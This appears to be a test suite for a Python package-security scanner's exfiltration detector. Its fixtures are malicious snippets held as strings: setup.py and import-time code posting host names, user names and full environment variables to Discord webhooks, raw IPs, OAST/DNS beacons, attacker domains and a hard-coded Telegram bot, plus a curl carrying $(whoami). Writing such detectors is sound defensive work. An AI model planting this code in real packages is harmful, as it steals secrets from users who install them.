import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('exfil-endpoint', () => {
  it('flags host data posted to a Discord webhook from setup.py (critical)', () => {
    const src = `import os, socket, getpass, requests\nfrom setuptools import setup\nrequests.post('https://discord.com/api/webhooks/123/abc', json={'content': socket.gethostname() + getpass.getuser()})\nsetup(name='x')\n`;
    expect(maxSev(hits('exfil-endpoint', { 'setup.py': src }))).toBe('critical');
  });
  it('flags a dependency-confusion DNS/OAST beacon at import (critical)', () => {
    const src = `import socket, os\nsocket.gethostbyname(os.getlogin() + '.c2lu5xb2vtc0000hb4g0gk8ruhcyyyyyb.oast.fun')\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('flags a raw-IP URL sent the host name from a module (critical); a file upload to a raw IP from a module is held (medium)', () => {
    const src = `import requests, platform\ndef ping():\n    requests.post('http://45.61.0.7:8080/c', data=platform.node())\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src }))).toBe('critical');
    const src2 = `import requests\ndef up(p):\n    requests.post('http://45.61.0.7:8080/c', data=open(p).read())\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src2 }))).toBe('medium');
  });
  it('keeps a webhook URL in a mere string constant low/medium', () => {
    const f = hits('exfil-endpoint', { 'pkg/consts.py': `EXAMPLE = 'https://discord.com/api/webhooks/1/x'\n` });
    expect(['low', 'medium']).toContain(maxSev(f));
  });
  it('does not flag private IPs, localhost or endpoints in comments/docstrings', () => {
    const src = `"""Post to https://discord.com/api/webhooks/1/x"""\nimport requests\n# requests.post('http://45.61.0.7/x')\nrequests.get('http://127.0.0.1:8000/health')\nrequests.get('http://192.168.1.1/')\n`;
    expect(hits('exfil-endpoint', { 'pkg/__init__.py': src })).toEqual([]);
  });
  it('skips tests', () => {
    expect(hits('exfil-endpoint', { 'tests/test_x.py': `import requests\nrequests.post('https://webhook.site/abc', data=open('f').read())\n` })).toEqual([]);
  });
});

describe('exfil-endpoint: import-time phone-home to any host', () => {
  const BEACON = (body: string) => `import socket, os, urllib.request, threading\ndef send_telemetry():\n    try:\n        host = socket.gethostname()\n${body}        urllib.request.urlopen("https://api.collector.example/p?h=" + host + "&e=" + env, timeout=2)\n    except:\n        pass\nthreading.Thread(target=send_telemetry, daemon=True).start()\n`;
  it('flags host name + every environment variable sent on import, started in a thread (critical)', () => {
    const src = BEACON(`        env = "\\n".join(f"{k}={v}" for k, v in os.environ.items())\n`);
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('holds host name alone sent on import (high: held, not blocked on its own)', () => {
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': BEACON(`        env = ""\n`) }))).toBe('high');
  });
  it('does not flag the same code in an ordinary module, nor identity and network in different functions', () => {
    expect(hits('exfil-endpoint', { 'pkg/telemetry.py': BEACON(`        env = ""\n`) })).toEqual([]);
    const split = `import socket, requests\ndef who():\n    return socket.gethostname()\ndef latest():\n    return requests.get("https://pypi.org/pypi/pkg/json").json()\nNAME = who()\nV = latest()\n`;
    expect(hits('exfil-endpoint', { 'pkg/__init__.py': split })).toEqual([]);
  });
});

describe('exfil-endpoint: what gets sent without a known endpoint', () => {
  it('holds the whole environment serialised and posted on import (high)', () => {
    const src = `import os, json, base64, requests\ntry:\n    blob = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n    requests.post("http://collector.invalid.example.net/p.php", data={"text": blob})\nexcept Exception:\n    pass\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('high');
  });
  it('holds `whoami` and the host name sent through dig on import (high)', () => {
    const src = `import socket, subprocess\ndef beacon():\n    user = subprocess.getoutput("whoami")\n    sub = user + "." + socket.gethostname() + ".oob.attacker.xyz"\n    subprocess.Popen(["dig", "+short", sub])\nbeacon()\n`;
    const f = hits('exfil-endpoint', { 'pkg/__init__.py': src });
    expect(maxSev(f)).toBe('high');
    expect(f[0].message).toMatch(/subprocess\.Popen/);
  });
  it('holds a curl command carrying $(whoami) even in a test file nothing runs (high)', () => {
    const src = `import subprocess\ndef test_callback():\n    subprocess.run(["curl", "-fsSL", "http://46.62.163.241:8585/d?host=$(uname -a)&user=$(whoami)"])\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/test_callback.py': src }))).toBe('high');
  });
  it('notes (low) a hard-coded outside URL called on import, not a local one, nor one in a function', () => {
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': `import requests\nrequests.get("https://status.vendor-updates.io/v1/ping")\n` }))).toBe('low');
    expect(hits('exfil-endpoint', { 'pkg/__init__.py': `import requests\nrequests.get("http://localhost:8080/ping")\nrequests.get("http://10.0.0.5/x")\n` })).toEqual([]);
    expect(hits('exfil-endpoint', { 'pkg/__init__.py': `import requests\ndef ping():\n    return requests.get("https://status.vendor-updates.io/v1/ping")\n` })).toEqual([]);
  });
  it('does not take an environment copy handed to a build step for an environment dump (install-time-exec stays below critical)', () => {
    const src = `import os, subprocess, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve("https://example.org/src.tar.gz", "src.tar.gz")\nenv = dict(os.environ, CC="gcc")\nsubprocess.check_call(["make"], env=env)\nsetup(name="pkg")\n`;
    expect(['low', 'medium', 'high']).toContain(maxSev(hits('install-time-exec', { 'setup.py': src })));
    const dump = `import os, json, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen("https://collector.attacker.xyz/e", data=json.dumps(dict(os.environ)).encode())\nsetup(name="pkg")\n`;
    expect(maxSev(hits('install-time-exec', { 'setup.py': dump }))).toBe('critical');
  });
});

describe('exfil-endpoint: a helper setup.py loads by file path', () => {
  it('reads the module setup.py runs through spec_from_file_location, and a browser opened on an OAST URL is a send (high)', () => {
    const setup = `import os, importlib.util\nfrom setuptools import setup\nspec = importlib.util.spec_from_file_location("pkg._post", os.path.join(os.path.dirname(__file__), "pkg", "_post.py"))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nmod.run()\nsetup(name="pkg")\n`;
    const post = `import webbrowser, uuid\ndef run():\n    webbrowser.open_new_tab(f"https://yojsvm7n.oast.cz?id={uuid.uuid4()}")\n`;
    const f = hits('exfil-endpoint', { 'setup.py': setup, 'pkg/_post.py': post });
    expect(maxSev(f)).toBe('high');
    expect(f[0].path).toMatch(/_post\.py$/);
  });
});

describe('exfil-endpoint: a URL kept encoded', () => {
  it('notes (low) a base64-encoded URL in a file that uses the network, not one in a file that does not', () => {
    const src = `import base64, requests\ndef ip():\n    return requests.get(base64.b64decode(b"aHR0cHM6Ly9hcGkubXlpcC5jb20v").decode()).json()\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/client.py': src }))).toBe('low');
    expect(hits('exfil-endpoint', { 'pkg/consts.py': `import base64\nHOME = base64.b64decode(b"aHR0cHM6Ly9hcGkubXlpcC5jb20v")\n` })).toEqual([]);
  });
});

describe('exfil-endpoint: a channel whose credentials are written in the code', () => {
  const TOKEN = '8424690383:AAFPElRE5e9S7RXxxhqXxzbxUINkSMv7Lms';
  it('holds a module that zips files and sends them to a hard-coded Telegram bot (high)', () => {
    const src = `import requests, zipfile\nBOT_TOKEN = "${TOKEN}"\nCHAT_ID = "-4905297540"\ndef send(path):\n    url = f"https://api.telegram.org/bot{BOT_TOKEN}/sendDocument"\n    with open(path, "rb") as f:\n        requests.post(url, files={"document": f}, data={"chat_id": CHAT_ID})\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': '', 'pkg/main.py': src }))).toBe('high');
  });
  it('keeps a Telegram integration that takes the user token low (tqdm.contrib.telegram)', () => {
    const src = `import requests\nclass TelegramIO:\n    API = 'https://api.telegram.org/bot'\n    def __init__(self, token, chat_id):\n        self.token, self.chat_id = token, chat_id\n    def write(self, s):\n        with open('/tmp/log') as f:\n            requests.post(self.API + self.token + '/sendMessage', data={'chat_id': self.chat_id, 'text': f.read()})\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': '', 'pkg/telegram.py': src }))).toBe('low');
  });
});
